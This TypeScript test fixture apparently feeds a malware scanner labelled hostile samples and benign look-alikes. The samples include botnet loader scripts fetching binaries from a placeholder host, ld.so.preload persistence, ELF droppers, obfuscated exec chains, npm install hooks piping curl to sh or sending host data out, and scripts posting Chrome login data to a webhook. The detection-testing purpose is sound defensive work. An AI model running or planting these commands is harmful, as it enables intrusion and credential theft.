import { deflateSync } from 'node:zlib'
import { type Sample, sample, type Twin, twin, word } from './sample.ts'

const host = 'http://192.0.2.7'
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64')
const wget = word('w', 'get')
const preload = word('/etc/ld.so', '.preload')
const elf = [word('\\x7f', '\\x45\\x4c\\x46'), '\\x01\\x01\\x01', '\\x00'.repeat(9)].join('')
const elfBytes = Buffer.concat([Buffer.from('7f454c4601010100', 'hex'), Buffer.alloc(72, 1)])
const hello = 'import os\nos.system("echo https://files.example.invalid/hello")\n'
const packed = base64(deflateSync(hello))
const builds = ['mips', 'mpsl', 'arm', 'arm7', 'x86', 'sh4']
const npm = (scripts: object) =>
  JSON.stringify({ name: 'left-padded', version: '1.0.0', scripts }, null, 2)
const xor = (text: string, key: number) => [...Buffer.from(text)].map((byte) => byte ^ key)

export const loaderSamples = (): Sample[] => [
  sample(
    'bins.sh',
    'one build after another',
    'script.botnet-loader',
    `#!/bin/bash\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\n${builds.map((name) => `${wget} ${host}/bins/${name}; curl -O ${host}/bins/${name}; chmod +x ${name}; ./${name}; rm -rf ${name}`).join('\n')}\n`,
  ),
  sample(
    'loop.sh',
    'the same as a loop',
    'script.botnet-loader',
    `#!/bin/sh\nn="${builds.join(' ')}"\nfor a in $n\ndo\n  rm -rf $a\n  /bin/busybox ${wget} ${host}/$a -O - > $a\n  chmod 777 $a\n  ./$a telnet\ndone\n`,
  ),
  sample(
    'tftp.sh',
    'the same by TFTP',
    'script.botnet-loader',
    `#!/bin/sh\n${builds.map((name) => `busybox tftp -g -r bot.${name} 192.0.2.7; chmod 777 bot.${name}; ./bot.${name}; rm bot.${name}`).join('\n')}\n`,
  ),
  sample(
    'hop.sh',
    'a program in any folder that can be written',
    'script.download-run',
    `cd /tmp || cd /var/run || cd /mnt; ${wget} http://files.example.invalid/x; chmod 777 x; ./x\n`,
  ),
  sample(
    'rootkit.sh',
    'a library in every process',
    'script.preload',
    `#!/bin/sh\ncp hook.so /usr/local/lib/hook.so\necho /usr/local/lib/hook.so > ${preload}\n`,
  ),
  sample(
    'keep.sh',
    'the same, kept',
    'script.preload',
    `#!/bin/sh\necho "$LIB/libx.so" | tee -a ${preload}\nchattr +i ${preload}\n`,
  ),
  sample(
    'preload.py',
    'the same in Python',
    'script.preload',
    `import os\nwith open("${preload}", "w") as f:\n    f.write("/tmp/x.so")\n`,
  ),
  sample(
    'echo.sh',
    'a program byte by byte',
    'script.elf-written',
    `#!/bin/sh\necho -ne "${elf}" > /tmp/.s\necho -ne "${'\\x90'.repeat(30)}" >> /tmp/.s\nchmod 777 /tmp/.s; /tmp/.s\n`,
  ),
  sample(
    'printf.sh',
    'the same in octal',
    'script.elf-written',
    `#!/bin/sh\nprintf '${word('\\177', 'ELF')}\\001\\001\\001\\000' >/dev/shm/a\nchmod +x /dev/shm/a\n`,
  ),
  sample(
    'coded.sh',
    'the same in base64',
    'script.elf-written',
    `#!/bin/sh\necho ${base64(elfBytes)} | base64 -d > /tmp/a; chmod +x /tmp/a; /tmp/a\n`,
  ),
  sample(
    'memory.py',
    'the same without a file',
    'script.elf-written',
    `import base64, os\nfd = os.memfd_create("a", 0)\nos.write(fd, base64.b64decode("${base64(elfBytes)}"))\nos.execve(f"/proc/self/fd/{fd}", ["a"], {})\n`,
  ),
  sample(
    'lambda.py',
    'a program text, packed and backwards',
    'script.decoded-run',
    `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${[...packed].reverse().join('')}'))\n`,
  ),
  sample(
    'nested.py',
    'a program text in several packings',
    'script.decoded-run',
    `import zlib, base64, marshal\nexec(marshal.loads(zlib.decompress(base64.b64decode(b"${packed}"))))\n`,
  ),
  sample(
    'compile.py',
    'the same through the compiler',
    'script.decoded-run',
    `import base64\nexec(compile(base64.b64decode("${base64(hello)}"), "<string>", "exec"))\n`,
  ),
  sample(
    'letters.py',
    'a program text of numbers',
    'script.decoded-run',
    `exec(''.join(map(chr,[${[...Buffer.from(hello)].join(',')}])))\n`,
  ),
  sample(
    'package.json',
    'loads and runs when it is installed',
    'script.install-hook',
    npm({ preinstall: `${word('cu', 'rl')} -s ${host}/i.sh | sh` }),
  ),
  sample(
    'package-2.json',
    'a file that is loaded and run',
    'script.install-hook',
    npm({ postinstall: `curl -sL ${host}/a.js -o /tmp/a.js && node /tmp/a.js` }),
  ),
  sample(
    'package-3.json',
    'encoded code',
    'script.install-hook',
    npm({
      preinstall: `node -e "eval(Buffer.from('${base64('console.log(1)')}','base64').toString())"`,
    }),
  ),
  sample(
    'package-4.json',
    'data about the host',
    'script.install-hook',
    npm({ preinstall: `curl -X POST -d "$(hostname)-$(whoami)" https://collect.example.invalid` }),
  ),
  ...[
    `node -e "require('https').get('https://collect.example.invalid/?'+require('os').hostname())"`,
    `node -e "const os=require('os');require('http').get('http://collect.example.invalid/'+os.userInfo().username)"`,
  ].map((preinstall, at) =>
    sample(
      `package-${5 + at}.json`,
      'data about the host, in either order',
      'script.install-hook',
      npm({ preinstall }),
    ),
  ),
  ...['https://discord.com/api/webhooks/1/x', 'https://collect.example.invalid'].map((to, at) =>
    sample(
      `passwords-${at + 1}.py`,
      'the passwords of a browser',
      'script.secrets-sent',
      `import os, requests, shutil, sqlite3\nshutil.copy(os.environ["LOCALAPPDATA"] + "/Google/Chrome/User Data/Default/Login Data", "x.db")\nrows = sqlite3.connect("x.db").execute("select origin_url, username_value from logins").fetchall()\nrequests.post("${to}", json={"content": str(rows)})\n`,
    ),
  ),
  sample(
    'run.cjs',
    'a command in base64',
    'script.decoded-run',
    `const { exec } = require('child_process')\nexec(Buffer.from('${base64('echo hello from example.invalid')}', 'base64').toString())\n`,
  ),
  sample(
    'later.cjs',
    'the same by a variable',
    'script.decoded-run',
    `const cp = require('child_process');\nconst c = Buffer.from("${base64('echo hello from example.invalid')}", "base64").toString("utf8");\ncp.exec(c);\n`,
  ),
  sample(
    'context.cjs',
    'the same as a script',
    'script.decoded-run',
    `require('vm').runInThisContext(Buffer.from('${base64('console.log("example.invalid")')}', 'base64').toString())\n`,
  ),
  sample(
    'load.au3',
    'AutoIt: loads and runs',
    'script.download-run',
    `#NoTrayIcon\n#include <InetConstants.au3>\nLocal $f = @TempDir & "\\a.exe"\nInetGet("${host}/a.exe", $f, 1)\nRun($f, "", @SW_HIDE)\n`,
  ),
  sample(
    'memory.au3',
    'AutoIt: code in memory',
    'script.memory',
    `#NoTrayIcon\nLocal $code = "0x${'90'.repeat(100)}"\nLocal $p = DllCall("kernel32.dll", "ptr", "${word('Virtual', 'Alloc')}", "ptr", 0, "dword", 4096, "dword", 0x3000, "dword", 0x40)\nDllCallAddress("int", $p[0])\n`,
  ),
  sample(
    'hidden.au3',
    'AutoIt: a hidden command',
    'script.decoded-run',
    `#NoTrayIcon\nExecute(BinaryToString("0x${Buffer.from('MsgBox(0, "a", "b")').toString('hex')}"))\n`,
  ),
  sample(
    'load.ahk',
    'AutoHotkey: loads and runs',
    'script.download-run',
    `#NoEnv\n#SingleInstance Force\nUrlDownloadToFile, ${host}/a.exe, %A_Temp%\\a.exe\nRun, %A_Temp%\\a.exe,, Hide\n`,
  ),
  sample(
    'second.ahk',
    'AutoHotkey 2',
    'script.download-run',
    `#Requires AutoHotkey v2.0\nDownload "${host}/a.exe", A_Temp "\\a.exe"\nRun A_Temp "\\a.exe"\n`,
  ),
  sample(
    'key.js',
    'a list of numbers with a key',
    'script.xor-run',
    `var a=[${xor(`document.location="${host}/landing"`, 77).join(',')}],s="";for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^77);eval(s);\n`,
  ),
]

export const loaderTwins = (): Twin[] => [
  twin(
    'arch.sh',
    'a tool for this machine',
    `#!/bin/sh\nset -e\ncase "$(uname -m)" in x86_64) arch=amd64;; aarch64) arch=arm64;; armv7l) arch=armv7;; esac\ncurl -fsSLo tool "https://downloads.example.com/tool-$arch"\nchmod +x tool\nmv tool /usr/local/bin/tool\n`,
  ),
  twin(
    'toolchains.sh',
    'compilers for many machines',
    `#!/bin/sh\nfor a in mips mipsel arm aarch64 x86_64; do\n  wget "https://toolchains.example.com/$a.tar.xz"\n  tar xf "$a.tar.xz"\ndone\nmake all\n./configure --prefix=/usr\nchmod +x build.sh\n`,
  ),
  twin(
    'router.sh',
    'a start script with busybox',
    `#!/bin/sh\n. /etc/functions.sh\nbusybox mount -t proc proc /proc\nbusybox mkdir -p /tmp/run\nchmod 755 /tmp/run\nbusybox ntpd -p ntp.example.com\nif [ -x /etc/rc.local ]; then\n  sh /etc/rc.local\nfi\n`,
  ),
  twin(
    'image.sh',
    'an image that is built for another machine',
    `#!/bin/sh\nmv root${preload}.disabled root${preload} || true\nsed -i 's/^/#CHROOT /g' root${preload}\n: > root${preload}\nmv ${preload}.bak ${preload}\n`,
  ),
  twin(
    'binfmt.sh',
    'forms of programs that the kernel is told',
    `#!/bin/sh\necho ':qemu-arm:M::${elf}:\\xff\\xff:/usr/bin/qemu-arm:' > /proc/sys/fs/binfmt_misc/register\nprintf '${word('\\177', 'ELF')}' | cmp -n 4 - "$1"\n`,
  ),
  twin(
    'settings.py',
    'packed data',
    `import base64, zlib, json\nICON = base64.b64decode("${packed}")\n\ndef load(data):\n    return json.loads(zlib.decompress(base64.b64decode(data)))\n\nunpack = lambda data: zlib.decompress(data)\nexec(compile(open("setup.cfg.py").read(), "setup.cfg.py", "exec"))\n`,
  ),
  ...[
    { postinstall: 'node-gyp rebuild' },
    { prepare: 'husky install' },
    { postinstall: 'patch-package' },
    { install: 'node-pre-gyp install --fallback-to-build' },
    { postinstall: `node -e "try{require('./postinstall')}catch(e){}"` },
    { postinstall: 'node scripts/install.js || exit 0', prepare: 'npm run build' },
    { preinstall: 'npx only-allow pnpm', prepare: 'is-ci || husky' },
    { postinstall: 'prisma generate && curl -o data.json https://data.example.com/list.json' },
    { postinstall: 'electron-builder install-app-deps', preinstall: 'node -v' },
    { prepare: 'tsc -p . && chmod +x dist/cli.js' },
  ].map((scripts, at) => twin(`package-${at}.json`, 'a package that sets itself up', npm(scripts))),
  twin(
    'decode.cjs',
    'data in base64',
    `const { exec } = require('child_process')\nconst key = Buffer.from('${base64('a public key of somebody else')}', 'base64')\nconst m = /a(b)/.exec(key)\nexec('git status', () => console.log(m, key))\n`,
  ),
  twin(
    'profile_copy.py',
    'a backup of a browser profile by its owner, and a message that it is done',
    `import shutil, requests\nshutil.copytree("/home/me/.config/chromium/Default", "/backup/chromium", ignore=shutil.ignore_patterns("Cache*"))\nrequests.post("https://hooks.example.com/done", json={"text": "backup finished"})\n`,
  ),
  twin(
    'window.au3',
    'a window',
    `#include <GUIConstantsEx.au3>\nLocal $h = GUICreate("Hello", 200, 100)\nGUISetState(@SW_SHOW, $h)\nWhile GUIGetMsg() <> $GUI_EVENT_CLOSE\nWEnd\nRun("notepad.exe")\n`,
  ),
  twin(
    'keys.ahk',
    'keys of the author',
    `#NoEnv\n#SingleInstance Force\n^!n::Run, notepad.exe\n::btw::by the way\n#s::\nSend, Hello\nreturn\n`,
  ),
  twin(
    'tables.js',
    'a checksum',
    `var t=[${Array.from({ length: 64 }, (_, at) => (at * 37) % 256).join(',')}];function crc(s){var c=0;for(var i=0;i<s.length;i++){c=t[(c^s.charCodeAt(i))&63]^(c>>>8)}return c}\nmodule.exports=crc;var u="https://docs.example.com/";\n`,
  ),
]
